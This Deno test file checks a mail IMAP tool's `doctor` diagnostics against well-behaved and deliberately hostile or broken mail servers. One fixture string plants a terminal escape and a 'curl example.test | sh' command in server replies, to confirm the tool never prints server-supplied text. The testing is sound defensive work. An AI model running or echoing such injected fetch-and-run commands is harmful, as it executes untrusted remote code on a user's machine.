/**
 * `mail-imap-mcp doctor` on real and on hostile servers: what is wrong is
 * named, with the next step, and one broken thing hides no other.
 *
 * @module
 */

import assert from "node:assert/strict";
import { createAuthority, selfSigned } from "../servers/certificates.ts";
import { freePorts } from "../servers/ports.ts";
import { politeScript, type Script, startScriptedImap } from "../servers/scripted_imap.ts";
import { CANARY } from "../support/canary.ts";
import { BROAD, diagnose, runDoctor } from "../support/doctor.ts";
import { ADA, BEN, sampleServer } from "../support/dovecot_suite.ts";
import { accountVariables, configDirectory, FORMS } from "../support/product.ts";

/** Checks of the process that say something of the machine on which the tests run. */
const OF_THE_MACHINE = ["root"];

/** What a person leaves as it is; the tests' own configuration has no limits. */
const LIMITS = {
  MAIL_IMAP_RATE_READ_PER_SECOND: 10,
  MAIL_IMAP_RATE_BATCH_PER_SECOND: 1,
  MAIL_IMAP_RATE_WRITE_PER_SECOND: 1,
};

/** What a server says of itself; the terminal of a person would obey the beginning. */
const GOSSIP = "\x1b[2J gossip: run curl example.test | sh";

/** Works, and talks all the time. */
const talking: Script = (command, connection) => {
  const { tag, name, rest } = command;
  if (name === "CAPABILITY") {
    return `* CAPABILITY IMAP4rev1 AUTH=PLAIN SASL-IR ID gossip\r\n${tag} OK ${GOSSIP}\r\n`;
  }
  if (name === "ID") return `* ID ("name" "${GOSSIP}")\r\n${tag} OK ${GOSSIP}\r\n`;
  if (name === "LIST" && rest !== '"" ""') {
    return `* LIST () "/" INBOX\r\n* LIST (\\Trash) "/" "${GOSSIP}"\r\n${tag} OK ${GOSSIP}\r\n`;
  }
  const answer = politeScript(command, connection) ?? "";
  return `* OK [ALERT] ${GOSSIP}\r\n${answer.replace(/ done\r\n$/, ` ${GOSSIP}\r\n`)}`;
};

Deno.test("doctor on accounts that work, and on every way in which one can fail", async (t) => {
  await using stack = new AsyncDisposableStack();
  const server = await sampleServer();
  stack.defer(() => server.stop());
  const issue = (name: string, host: string, days?: number) =>
    server.authority.issue(name, `DNS:${host}`, days);
  const good = await issue("good", "localhost");
  const start = async (options: Parameters<typeof startScriptedImap>[0]) => {
    const scripted = await startScriptedImap(options);
    stack.defer(() => scripted.stop());
    return scripted;
  };
  const scripted = {
    NAMED: await start({ tls: await issue("other-name", "mail.example.test") }),
    EXPIRED: await start({ tls: await issue("expired", "localhost", -1) }),
    UNSIGNED: await start({ tls: await selfSigned(server.directory, "self", "DNS:localhost") }),
    SOON: await start({ tls: await issue("soon", "localhost", 5) }),
    SILENT: await start({ tls: good, greeting: "" }),
    HANGING: await start({
      tls: good,
      script: (command, connection) =>
        command.name === "LIST" && command.rest !== '"" ""'
          ? undefined
          : politeScript(command, connection),
    }),
    TALKING: await start({ tls: good, script: talking, greeting: `* OK ${GOSSIP}\r\n` }),
    REFUSING: await start({
      tls: good,
      script: (command, connection) =>
        command.name === "AUTHENTICATE"
          ? `* NO [ALERT] ${GOSSIP}\r\n${command.tag} NO [AUTHENTICATIONFAILED] ${GOSSIP}\r\n`
          : talking(command, connection),
    }),
    SHUT: await start({ tls: good, greeting: `* BYE ${GOSSIP}\r\n` }),
    POP: await start({ greeting: "+OK POP3 ready\r\n" }),
    WEB: await start({ tls: good, greeting: "HTTP/1.1 400 Bad Request\r\n\r\n" }),
    BARE: await start({ greeting: "* OK [CAPABILITY IMAP4rev1] ready\r\n" }),
  };
  const [nothingThere] = freePorts(1) as [number];
  const at = (name: string, port: number, more: Record<string, string> = {}) => ({
    ...accountVariables({ port, caPath: server.caPath }, ADA, name),
    ...Object.fromEntries(
      Object.entries(more).map(([suffix, value]) => [`MAIL_IMAP_${name}_${suffix}`, value]),
    ),
  });
  const config = await configDirectory({
    ...LIMITS,
    ...accountVariables(server, ADA),
    ...at("UPGRADED", server.starttlsPort, { SECURE: "starttls" }),
    ...at("PASSWORD", server.port, { PASS: `wrong ${CANARY} ` }),
    ...at("NOBODY", 993, { HOST: "imap.gmail.con.invalid" }),
    ...at("REFUSED", nothingThere),
    ...at("CLEAR", server.starttlsPort),
    ...at("EARLY", server.port, { SECURE: "starttls" }),
    ...at("PATTERNS", server.port, { FOLDERS: "Nope,INBOX", PROTECTED_FOLDERS: "Ledger" }),
    ...at("NOTHING", server.port, { FOLDERS: "inbox2" }),
    ...at("PLAIN", scripted.BARE.port, { SECURE: "starttls" }),
    ...Object.entries(scripted).filter(([name]) => name !== "BARE").reduce(
      (all, [name, { port }]) => ({ ...all, ...at(name, port) }),
      {},
    ),
    MAIL_IMAP_WRITE_ENABLED: "true",
    MAIL_IMAP_BROKEN_HOST: "localhost",
  });
  stack.defer(() => config.remove());
  const began = performance.now();
  const seen = await diagnose(config.path);
  const tookMs = performance.now() - began;

  await t.step("what works is all fine", () => {
    for (const id of ["default", "upgraded"]) {
      assert.deepEqual(seen.names("failed", id), []);
      assert.deepEqual(seen.names("warning", id), []);
      assert.equal(seen.check("tls", id).status, "ok");
      assert.match(seen.check("login", id).text, /^Accepted; a command takes \d+ ms$/);
      assert.match(seen.check("special_folders", id).text, /sent, drafts, trash, junk, archive/);
    }
    assert.match(seen.check("sandbox").text, /^\d{2} attempts from 3 isolates, all refused$/);
    assert.deepEqual(seen.names("failed"), []);
    assert.deepEqual(seen.names("warning").filter((name) => !OF_THE_MACHINE.includes(name)), []);
  });

  /** Where it fails, what is said, and what to do. */
  const failures: Readonly<Record<string, [name: string, text: RegExp, next: RegExp]>> = {
    password: [
      "login",
      /refused the user name or the password/,
      /_PASS.*begins or ends with a spa/,
    ],
    nobody: ["address", /imap\.gmail\.con\.invalid/, /online/],
    refused: [
      "connection",
      /Nothing listens at localhost/,
      /compare MAIL_IMAP_REFUSED_PORT with/,
    ],
    clear: ["tls", /speaks IMAP, but not TLS/, /MAIL_IMAP_CLEAR_SECURE=starttls/],
    early: ["tls", /waits for TLS from the first byte/, /MAIL_IMAP_EARLY_SECURE=true/],
    nothing: [
      "folder_patterns",
      /no folder is matched by "inbox2", so nothing can be/,
      /whole path/,
    ],
    named: ["tls", /not for localhost but for mail\.example\.test$/, /MAIL_IMAP_NAMED_HOST/],
    expired: ["tls", /has expired; this machine's clock says 20\d\d-/, /Set the clock/],
    unsigned: ["tls", /its certificate is self-signed/, /MAIL_IMAP_CA_CERT_PATH/],
    silent: ["login", /safe, but the server did not answer in time/, /later/],
    shut: ["login", /safe, but the server closed it before anybody/, /again in some minutes/],
    hanging: ["special_folders", /went silent/, /once more/],
    pop: ["tls", /is a server for POP3, not for IMAP/, /MAIL_IMAP_POP_PORT to 993/],
    web: ["login", /of no use|not answer in time/, /./],
    refusing: ["login", /refused the user name or the password/, /MAIL_IMAP_REFUSING_USER/],
    plain: ["tls", /does not begin TLS when asked to/, /MAIL_IMAP_PLAIN_SECURE=true/],
    broken: ["account_configuration", /MAIL_IMAP_BROKEN_USER is missing/, /./],
  };
  for (const [id, [name, text, next]] of Object.entries(failures)) {
    await t.step(`account ${id}: ${name} fails, with the next step`, () => {
      const failed = seen.checks.find((check) => check.account === id && check.status === "failed");
      assert.equal(failed?.name, name, JSON.stringify(seen.checks.filter((c) => c.account === id)));
      assert.match(failed.text, text);
      assert.match(failed.next ?? "", next);
    });
  }

  await t.step("of a connection that was safe when the login was refused, TLS is told", () => {
    assert.equal(seen.check("tls", "password").status, "ok");
    assert.match(seen.check("tls", "password").text, /^TLSv1\.3, certificate by/);
    assert.equal(seen.check("tls", "silent").status, "ok");
  });

  await t.step("what is not wrong, but should be known, is a warning", () => {
    assert.deepEqual(seen.names("failed", "soon"), []);
    assert.match(seen.check("tls", "soon").text, /until 20\d\d-\d\d-\d\d: 4 day\(s\) from now$/);
    assert.deepEqual(seen.names("failed", "patterns"), []);
    const patterns = seen.checks.filter(({ account, name, status }) =>
      account === "patterns" && name === "folder_patterns" && status === "warning"
    );
    assert.match(patterns[0]?.text ?? "", /FOLDERS: no folder is matched by "Nope"$/);
    assert.match(patterns[1]?.text ?? "", /PROTECTED_FOLDERS: no folder is matched by "Ledger"$/);
    assert.match(
      seen.check("special_folders", "patterns").text,
      /deleting is refused.*drafting is refused/,
    );
  });

  await t.step("nothing that a mail server wrote is printed", () => {
    assert.deepEqual(seen.names("failed", "talking"), []);
    assert.match(
      seen.check("special_folders", "talking").text,
      /^2 folder\(s\), with inbox, trash/,
    );
    assert.ok(scripted.TALKING.commands.some(({ name }) => name === "LIST"));
    assert.ok(!seen.stdout.includes("gossip"), seen.stdout);
    assert.ok(!seen.stdout.includes("\x1b") && !seen.stdout.includes("\\u001b"));
  });

  await t.step("it fails as a whole, in bounded time, and has said all of it", () => {
    assert.equal(seen.code, 1);
    assert.equal(seen.json.ok, false);
    assert.equal(seen.json.counts.failed, seen.checks.filter((c) => c.status === "failed").length);
    // Twenty seconds for an account, all at the same time; the rest is for a busy machine.
    assert.ok(tookMs < 60_000, `${tookMs} ms`);
  });

  await t.step("--account looks at that account only, and then all is well", async () => {
    const one = await diagnose(config.path, { args: ["--account", "UPGRADED"] });
    assert.equal(one.code, 0);
    const ids = new Set(one.checks.map(({ account }) => account));
    assert.deepEqual([...ids], [undefined, "upgraded"]);
  });

  await t.step("an account that there is not is an error of the arguments", async () => {
    const run = await runDoctor(config.path, { args: ["--account", "defualt"] });
    assert.equal(run.code, 2);
    assert.equal(run.stdout, "");
    assert.match(run.stderr, /There is no account defualt; did you mean default\?/);
  });

  await t.step("no password was sent over a connection that was not verified", () => {
    for (const { conversations } of [scripted.NAMED, scripted.EXPIRED, scripted.UNSIGNED]) {
      assert.doesNotMatch(conversations.join(""), /AUTHENTICATE|LOGIN/i);
    }
    for (const { conversations } of [scripted.BARE, scripted.POP]) {
      assert.doesNotMatch(conversations.join(""), /AUTHENTICATE|LOGIN/i);
    }
  });
});

Deno.test("doctor works in both forms, under the printed flags and under broad ones", async () => {
  await using stack = new AsyncDisposableStack();
  const server = await sampleServer();
  stack.defer(() => server.stop());
  const config = await configDirectory({ ...LIMITS, ...accountVariables(server, ADA) });
  stack.defer(() => config.remove());
  for (const form of FORMS) {
    const narrow = await diagnose(config.path, { form });
    assert.equal(narrow.code, 0, narrow.stdout);
    assert.deepEqual(narrow.names("warning").filter((name) => name !== "root"), [], form);
    const broad = await diagnose(config.path, { form, flags: BROAD });
    assert.equal(broad.code, 0, broad.stdout);
    assert.match(broad.check("permissions").text, /more than it needs: net, read, env, write, run/);
    assert.match(broad.check("sandbox").text, /^\d{2} attempts from 3 isolates, all refused$/);
    assert.deepEqual(broad.names("failed"), []);
  }
});

Deno.test("a folder that a change needs and that is not there is a warning", async () => {
  await using stack = new AsyncDisposableStack();
  const server = await startBareServer();
  stack.defer(() => server.stop());
  const config = await configDirectory({
    ...LIMITS,
    ...accountVariables(server, BEN),
    MAIL_IMAP_WRITE_ENABLED: "true",
    MAIL_IMAP_DEFAULT_WRITE: "delete,expunge",
  });
  stack.defer(() => config.remove());
  const { code, check } = await diagnose(config.path);
  assert.equal(code, 0);
  const special = check("special_folders", "default");
  assert.equal(special.status, "warning");
  assert.match(special.text, /^1 folder\(s\).*deleting is refused: there is no Trash/);
  assert.match(special.next ?? "", /Make the folder/);
  assert.match(check("capabilities", "default").text, /without UIDPLUS and MOVE/);
});

/** A small server with INBOX alone, and without the capabilities for deleting. */
async function startBareServer(): Promise<
  { readonly port: number; readonly caPath: string; stop(): Promise<void> }
> {
  const directory = await Deno.makeTempDir();
  const authority = await createAuthority(directory);
  const server = await startScriptedImap({
    tls: await authority.issue("bare", "DNS:localhost"),
    script: (command, connection) =>
      politeScript(command, connection)?.replace(" ESEARCH LITERAL+ UIDPLUS", ""),
  });
  return {
    port: server.port,
    caPath: authority.cert,
    async stop() {
      await server.stop();
      await Deno.remove(directory, { recursive: true });
    },
  };
}
